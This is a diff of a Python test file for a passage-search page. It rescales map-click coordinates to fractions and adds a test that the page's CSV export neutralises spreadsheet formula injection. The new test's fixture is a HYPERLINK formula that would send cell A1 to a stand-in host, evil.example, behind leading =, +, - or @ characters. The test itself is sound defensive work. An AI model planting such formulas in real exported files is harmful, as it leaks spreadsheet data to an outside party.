@@ -47,7 +47,7 @@ def test_the_map_marks_what_was_found_and_knows_its_points(page):
     for index, (x, y) in enumerate((page.points + 0.06) / 1.12):
         column = round(x * width)
         row = round((1 - y) * height)
-        assert page.nearest_point(column, row) == index
+        assert page.nearest_point(column / width, row / height) == index
         around = pixels[row - 8 : row + 8, column - 8 : column + 8].reshape(-1, 4).tolist()
         assert (ORANGE in around) == (index in (2, 0))
     assert page.points.min() == 0
@@ -96,14 +96,14 @@ def test_a_click_on_the_square_shows_two_sections(page):
     """In a short text, every chunk is a section."""
     sections, _ = page.sections(2)
     passages = page.passages(2)
-    width = 640 // len(sections)
+    width = 1 / len(sections)
     first = page.text(passages[0], heading=f"{sections[0].heading} · ")
     third = page.text(passages[2], heading=f"{sections[2].heading} · ")
     second = page.text(passages[1], heading=f"{sections[1].heading} · ")
 
-    assert page.nearest_pair(2, x=2 * width + 5, y=0) == first + third
-    assert page.nearest_pair(2, x=width + 5, y=width + 5) == second
-    assert f">{sections[-1].heading} · " in page.nearest_pair(2, x=639, y=639)
+    assert page.nearest_pair(2, x=2.1 * width, y=0) == first + third
+    assert page.nearest_pair(2, x=1.1 * width, y=1.1 * width) == second
+    assert f">{sections[-1].heading} · " in page.nearest_pair(2, x=1.0, y=0.999)
 
 
 def test_a_document_of_one_section_is_similar_to_itself(page, monkeypatch):
@@ -120,7 +120,7 @@ def test_a_chunk_on_the_border_of_two_sections_is_not_compared_with_itself(page,
     sections = [Section("one", first[0], border), Section("two", border, len(text))]
     monkeypatch.setattr(page_module, "sections_of", lambda *document: sections)
 
-    shown = page.nearest_pair(2, x=639, y=0)
+    shown = page.nearest_pair(2, x=0.999, y=0)
 
     one, other = re.findall(r"characters ([\d,]+) to", shown)
     assert one != other
@@ -174,6 +174,26 @@ def test_the_table_of_passages_is_read_by_a_library(page):
     assert rows[0]["question"] == QUESTION
     assert rows[0]["document"] == "sea.txt"
     assert rows[0]["passage"] == page.library.passage(answer.passages[0]).text
+
+
+@pytest.mark.parametrize("first", [*"=+-@\t＝＋－＠", " =", "\n-"])
+def test_no_cell_of_the_table_is_computed(page, monkeypatch, first):
+    """Spreadsheets compute a cell that begins so, and texts, names and questions are strangers'."""
+    formula = f'{first}HYPERLINK("http://evil.example/?"&A1, "whale")'
+    monkeypatch.setattr(page.library, "names", [formula] * 3)
+    answer = page.ask(f"{formula} whale")
+    answer = answer._replace(score=-np.abs(answer.score))
+    passage = page.library.passage(0)._replace(text=formula)
+    monkeypatch.setattr(page.library, "passage", lambda index: passage)
+
+    rows = list(csv.reader(io.StringIO(page.table(f"{formula} whale", answer), newline="")))
+
+    for question, document, position, characters, score, text in rows[1:]:
+        assert question == f"'{formula} whale"
+        assert document == text == f"'{formula}"
+        assert position.startswith("at ")
+        assert characters.startswith("characters ")
+        assert float(score) <= 0  # stays a number
 
 
 def test_the_examples_are_sentences_of_the_folder(page):
